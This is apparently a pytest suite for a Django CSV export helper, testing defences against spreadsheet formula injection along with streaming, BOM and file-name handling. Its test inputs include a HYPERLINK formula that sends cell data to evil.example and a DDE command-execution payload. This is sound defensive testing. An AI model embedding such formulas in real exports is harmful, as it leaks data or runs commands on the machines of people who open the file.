"""CSV downloads cannot smuggle formulas into a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from django.utils import timezone

from cdp.csvutil import csv_response, neutralise


def read(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "+86 138 0013 8000",
        "-2+3",
        "-5",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
        "＝1+1",  # full-width, as Chinese input methods type it
        "＠SUM(A1)",
    ],
)
def test_dangerous_starts_get_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("hello", "hello"),
        ("张伟", "张伟"),
        ("", ""),
        ("a=b", "a=b"),
        ("lotus-tmall", "lotus-tmall"),
        (None, ""),
        (True, "true"),
        (False, "false"),
        ({"ip": "10.0.0.1", "行": 2}, '{"ip":"10.0.0.1","行":2}'),
        (["a", 1], '["a",1]'),
        (dt.date(2025, 3, 1), "2025-03-01"),
    ],
)
def test_harmless_values_are_unchanged(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize(
    ("number", "expected"), [(-5, "-5"), (Decimal("-1.50"), "-1.50"), (-0.25, "-0.25"), (42, "42")]
)
def test_real_numbers_stay_numbers(number, expected):
    # Only text is checked: a negative amount is data, "-5" typed into a text field is not.
    assert neutralise(number) == expected


def test_times_are_local_iso_with_offset():
    moment = dt.datetime(2025, 3, 1, 2, 30, tzinfo=dt.UTC)
    assert neutralise(moment) == timezone.localtime(moment).isoformat()
    assert neutralise(moment).endswith("+08:00")


def test_response_streams_an_attachment_with_bom():
    produced = []

    def rows():
        for i in range(3):
            produced.append(i)
            yield [i, f"会员{i}", "=cmd|' /C calc'!A0"]

    response = csv_response("ledger.csv", ["id", "name", "source_ref"], rows())
    assert isinstance(response, StreamingHttpResponse)
    assert produced == []  # nothing read before the response is sent
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="ledger.csv"'
    table = read(response)
    assert table[0] == ["id", "name", "source_ref"]
    assert table[1] == ["0", "会员0", "'=cmd|' /C calc'!A0"]
    assert len(table) == 4


def test_chinese_file_name_is_encoded():
    response = csv_response("同意记录.csv", ["a"], [])
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''")
    assert read(response) == [["a"]]


def test_big_exports_arrive_in_chunks():
    response = csv_response("big.csv", ["n"], ([i] for i in range(1200)))
    chunks = list(response.streaming_content)
    assert len(chunks) == 4  # header, then 500 + 500 + 200 rows
